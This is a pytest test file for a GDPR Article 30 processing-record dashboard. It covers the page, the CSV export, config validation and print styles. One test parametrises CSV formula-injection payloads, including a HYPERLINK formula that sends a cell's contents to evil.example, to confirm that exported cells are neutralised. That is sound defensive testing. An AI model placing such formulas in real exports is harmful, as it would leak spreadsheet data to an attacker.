"""The record of processing activities (GDPR Art. 30): a printable page and a CSV with one row per
category of the policy, its erasure limit, the controller's facts from the record file, cells a
spreadsheet cannot run; a broken record file stops the dashboard's start with one clear line."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from bookings_ledger.app import DASHBOARD, create_app
from config.settings import DEFAULT_PROCESSING_RECORD, SettingsError
from dashboard.processing_activities import COLUMNS
from tests.dashboard.other_parts_endpoints import add_missing_endpoints

SHIPPED = DEFAULT_PROCESSING_RECORD.read_text(encoding="utf-8")


@pytest.fixture(autouse=True)
def _layout_links(dashboard_app):
    add_missing_endpoints(dashboard_app)


def downloaded(client) -> tuple[object, list[dict[str, str]]]:
    answer = client.get("/processing-record.csv")
    return answer, list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))


def test_the_page_shows_the_record_with_its_version_and_digest(dashboard, officer):
    page = officer.get("/processing-record")
    body = page.get_data(as_text=True)
    assert page.status_code == 200 and body.count("<h1>") == 1 and "<h1>Record of processing activities</h1>" in body
    assert 'href="/processing-record.csv" download>Download CSV</a>' in body
    assert dashboard.policy.policy_version in body and "Contoso Ltd (example: replace)" in body
    assert "still holds the example values" in body
    for category in dashboard.policy.category:
        assert f"<code>{category.id}</code>" in body
    assert "1 year after the end of the appointment, then anonymised in Bookings" in body
    assert "key store apart from the main database" in body and "Backups of the main database encrypted" in body


def test_the_csv_has_a_row_per_category_with_its_retention(dashboard, auditor):
    answer, rows = downloaded(auditor)
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="processing-record-2026-11-25.1-')
    assert list(rows[0]) == list(COLUMNS)
    by_activity = {row["Processing activity"]: row for row in rows}
    assert list(by_activity) == [category.id for category in dashboard.policy.category]
    for category in dashboard.policy.category:
        row = by_activity[category.id]
        assert row["Retention (ISO 8601)"] == category.retention and row["Retention clock"] == category.clock
        assert row["(f) Time limit for erasure"].startswith(category.time_limit)
        assert row["(b) Purpose"] == category.purpose and row["Policy version"] == dashboard.policy.policy_version
    assert by_activity["booking.notes"]["(f) Time limit for erasure"].startswith("90 days after the end of the appointment")
    assert by_activity["usage.audit"]["(c) Categories of data subjects"] == "Staff who use the privacy dashboard (example: check)"
    assert by_activity["usage.audit"]["(d) Recipients"] == ""          # held by the service itself
    assert "processor" in by_activity["booking.contact"]["(d) Recipients"]
    assert "United States" in by_activity["booking.contact"]["(e) Third-country transfers and safeguards"]
    assert by_activity["booking.details"]["Legal basis"] == "Legal obligation, Art. 6(1)(c)"
    digest = by_activity["booking.identity"]["Record digest (SHA-256)"]
    assert len(digest) == 64 and digest in auditor.get("/processing-record").get_data(as_text=True)


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)")


def app_with_record(dashboard_settings: dict[str, str], tmp_path: Path, text: str):
    path = tmp_path / "processing-record.toml"
    path.write_text(text, encoding="utf-8")
    app = create_app({**dashboard_settings, "PROCESSING_RECORD_FILE": str(path)}, surfaces=frozenset({DASHBOARD}))
    add_missing_endpoints(app)
    return app


@pytest.mark.parametrize("formula", FORMULAS)
def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(dashboard_app, dashboard_settings, tmp_path, formula):
    from tests.dashboard.conftest import PRIVACY_OFFICER, signed_in

    text = SHIPPED.replace('name = "Contoso Ltd (example: replace)"', f"name = '{formula}'")
    text = text.replace('"Staff with access are bound', f"'{formula}',\n  \"Staff with access are bound")
    app = app_with_record(dashboard_settings, tmp_path, text)
    try:
        _, rows = downloaded(signed_in(app, PRIVACY_OFFICER))
    finally:
        from bookings_ledger.app import close_app
        close_app(app)
    for row in rows:
        assert row["(a) Controller"].startswith(f"'{formula}, ")
        assert f"; {formula}; " in row["(g) Security measures"]       # inside a cell: not at its start, harmless
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_a_broken_record_file_stops_the_start_with_one_line_naming_the_field(dashboard_app, dashboard_settings, tmp_path):
    text = SHIPPED.replace('role = "processor"', 'role = "friend"')
    with pytest.raises(SettingsError) as refused:
        app_with_record(dashboard_settings, tmp_path, text)
    message = str(refused.value)
    assert message.startswith("setting PROCESSING_RECORD_FILE: ") and "recipients.0.role" in message and "\n" not in message


def test_the_print_stylesheet_hides_the_navigation_and_the_download_link(officer):
    with officer.get("/static/dashboard/dashboard.css") as response:
        css = response.get_data(as_text=True)
    print_rules = css[css.index("@media print"):]
    assert "header.top" in print_rules.split("}")[0] and ".no-print" in print_rules
